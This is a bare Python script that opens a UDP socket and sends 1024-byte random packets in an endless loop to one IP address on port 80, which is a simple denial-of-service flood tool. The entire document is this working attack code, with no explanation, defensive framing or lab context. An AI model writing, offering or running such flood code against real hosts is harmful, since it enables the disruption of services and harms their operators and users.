import socket, random
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
payload = random._urandom(1024)
while True:
    sock.sendto(payload, ("198.51.100.7", 80))
